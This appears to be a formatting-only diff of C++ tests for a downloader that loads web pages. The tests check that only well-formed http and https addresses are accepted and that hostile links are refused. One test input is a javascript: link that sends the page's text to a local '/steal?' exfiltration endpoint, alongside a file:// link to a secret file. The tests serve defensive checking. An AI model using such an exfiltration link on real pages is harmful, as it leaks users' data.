@@ -194,8 +194,8 @@ TEST(WebAddressTest, TakesOnlyWellFormedHttpAndHttpsAddresses)
              {"javascript:alert(1)", ""},
              {"data:text/html,<b>x</b>", ""},
              {"ftp://book.example/1.html", ""},
-             {"book.example/1.html", ""},      // no guessing of a scheme
-             {" http://book.example/", ""},    // nor mending of what was given
+             {"book.example/1.html", ""},    // no guessing of a scheme
+             {" http://book.example/", ""},  // nor mending of what was given
              {"http://book.example/a b.html", ""},
              {"http:///1.html", ""},
              {"http:1.html", ""},
@@ -243,7 +243,8 @@ TEST_F(BrowserDownloadTest, ListOfFileAndScriptLinksLoadsOnlyTheWebAddress)
     options.scriptLinks = {
         // Slashes past those of the list address leave the prefix empty, so
         // every link is taken as it stands.
-        "http://127.0.0.1:" + std::to_string(port) + "/js/1/" + encoding::utf8ToGbk("卷一") + "/part/2/section/3/1.html",
+        "http://127.0.0.1:" + std::to_string(port) + "/js/1/" + encoding::utf8ToGbk("卷一")
+            + "/part/2/section/3/1.html",
         "file://" + secret.string(),
         "javascript:location.href = '" + exfiltration.url("/steal?")
             + "' + encodeURIComponent(document.documentElement.innerText)",
@@ -271,7 +272,10 @@ struct HostilePageCase {
     std::string markup;  // "{elsewhere}" stands for a site on another port
 };
 
-void PrintTo(const HostilePageCase& c, std::ostream* os) { *os << c.label; }
+void PrintTo(const HostilePageCase& c, std::ostream* os)
+{
+    *os << c.label;
+}
 
 class HostilePageTest : public BrowserDownloadTest, public testing::WithParamInterface<HostilePageCase> {};
 
@@ -382,7 +386,10 @@ struct RefusalCase {
     std::function<bool(const QString& text)> isTheReason;
 };
 
-void PrintTo(const RefusalCase& c, std::ostream* os) { *os << c.label; }
+void PrintTo(const RefusalCase& c, std::ostream* os)
+{
+    *os << c.label;
+}
 
 class RefusalTest : public BrowserDownloadTest, public testing::WithParamInterface<RefusalCase> {
 protected:
@@ -408,7 +415,7 @@ TEST_P(RefusalTest, ToldOncePerRunWithNoRowDone)
         const auto boxes = shown();
         const auto told = std::count_if(boxes.begin(), boxes.end(), [](const Shown& box) {
             return box.caption == "提示" && box.style == StyleError && box.timeoutMs == 0
-                && GetParam().isTheReason(box.text);
+                   && GetParam().isTheReason(box.text);
         });
         EXPECT_EQ(told, run);
     }
